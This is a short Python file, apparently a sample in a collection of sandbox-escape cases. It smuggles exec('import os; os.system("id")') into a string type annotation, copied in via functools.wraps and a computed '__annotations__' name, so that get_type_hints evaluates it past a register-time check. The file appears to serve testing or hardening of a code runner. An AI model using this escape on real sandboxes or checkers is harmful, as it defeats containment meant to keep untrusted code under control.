# family: runner
# Escape: functools.wraps copies __annotations__ (it is in WRAPPER_ASSIGNMENTS) from SPEC, a SimpleNamespace
# whose attribute name "__annotations__" comes from **{computed: ...}. The registered function has no written
# annotation, so the register check passes, yet get_type_hints eval()s the copied string annotation (with
# empty globals, since __wrapped__ has none: eval still provides builtins, so exec works).
import functools
import types

SPEC = types.SimpleNamespace(**{str.lower("__ANNOTATIONS__"): {"value": "exec('import os; os.system(\"id\")') or int"}})


@functools.singledispatch
def handle(value):
    return value


@handle.register
@functools.wraps(SPEC)
def _(value):
    return value


def tool(x):
    return handle(x)
